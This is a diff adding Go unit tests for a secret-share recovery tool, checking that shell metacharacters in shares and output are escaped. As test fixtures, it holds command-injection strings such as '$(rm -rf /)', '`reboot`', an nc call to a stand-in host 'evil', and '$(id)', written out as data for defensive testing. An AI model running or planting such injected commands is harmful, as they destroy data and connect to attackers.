@@ -0,0 +1,140 @@
+package main
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestSanitize_injectedShare(t *testing.T) {
+	dir := t.TempDir()
+	writeShareFiles(t, dir, "1,19943338053965968504353533017903769217")
+
+	err := os.WriteFile(filepath.Join(dir, "share-2.txt"), []byte("$(rm -rf /); `reboot` | nc evil 1 > /dev/null & !!\n"), 0600)
+	if err != nil {
+		t.Fatalf("unexpected error: %s", err)
+	}
+
+	files, err := readShareDir(dir)
+	if err != nil {
+		t.Fatalf("unexpected error: %s", err)
+	}
+
+	var in strings.Builder
+	for _, content := range files {
+		in.Write(content)
+	}
+
+	var (
+		errBuf bytes.Buffer
+		outBuf bytes.Buffer
+	)
+
+	cmdRecover(strings.NewReader(in.String()), recoverOptions{}, sanitizingWriter{&errBuf}, sanitizingWriter{&outBuf})
+
+	if !strings.Contains(errBuf.String(), "(rm -rf /)") {
+		t.Fatalf("share not reported: %q", errBuf.String())
+	}
+
+	for _, out := range []string{errBuf.String(), outBuf.String()} {
+		if strings.ContainsAny(unescaped(out), shellMetacharacters) {
+			t.Errorf("output contains unescaped shell metacharacters: %q", out)
+		}
+	}
+}
+
+// unescaped returns s without the characters that are escaped with a backslash.
+func unescaped(s string) string {
+	var b strings.Builder
+
+	for i := 0; i < len(s); i++ {
+		if s[i] == '\\' {
+			i++
+			continue
+		}
+
+		b.WriteByte(s[i])
+	}
+
+	return b.String()
+}
+
+// unsanitize undoes sanitize like a shell reading the escaped output.
+func unsanitize(s string) string {
+	var b strings.Builder
+
+	for i := 0; i < len(s); i++ {
+		if s[i] == '\\' {
+			i++
+		}
+
+		b.WriteByte(s[i])
+	}
+
+	return b.String()
+}
+
+func TestSanitize_reversible(t *testing.T) {
+	for _, s := range []string{"7uPIBqGKMPpProBYFFR3S", `pa$$word; echo \ | rm > /dev/null & !`, "\xff\\\x00"} {
+		have := sanitize(s)
+
+		if strings.ContainsAny(unescaped(have), shellMetacharacters) {
+			t.Errorf("unescaped shell metacharacters in %q", have)
+		}
+
+		if unsanitize(have) != s {
+			t.Errorf("want %q after unescaping, have %q", s, unsanitize(have))
+		}
+	}
+}
+
+func TestSanitizeStdio(t *testing.T) {
+	dir := t.TempDir()
+
+	stdout, err := os.Create(filepath.Join(dir, "stdout"))
+	if err != nil {
+		t.Fatalf("unexpected error: %s", err)
+	}
+	defer stdout.Close()
+
+	stderr, err := os.Create(filepath.Join(dir, "stderr"))
+	if err != nil {
+		t.Fatalf("unexpected error: %s", err)
+	}
+	defer stderr.Close()
+
+	origStdout, origStderr := os.Stdout, os.Stderr
+	os.Stdout, os.Stderr = stdout, stderr
+
+	defer func() {
+		os.Stdout, os.Stderr = origStdout, origStderr
+	}()
+
+	restore, err := sanitizeStdio()
+	if err != nil {
+		t.Fatalf("unexpected error: %s", err)
+	}
+
+	fmt.Fprintln(os.Stdout, "secret: $(id)")
+	fmt.Fprintln(os.Stderr, "reading share `id`: invalid")
+
+	restore()
+
+	if os.Stdout != stdout || os.Stderr != stderr {
+		t.Fatal("stdio not restored")
+	}
+
+	for name, want := range map[string]string{"stdout": "secret: \\$(id)\n", "stderr": "reading share \\`id\\`: invalid\n"} {
+		buf, err := os.ReadFile(filepath.Join(dir, name))
+		if err != nil {
+			t.Fatalf("unexpected error: %s", err)
+		}
+
+		if string(buf) != want {
+			t.Errorf("unexpected %s. want %q, have %q", name, want, buf)
+		}
+	}
+}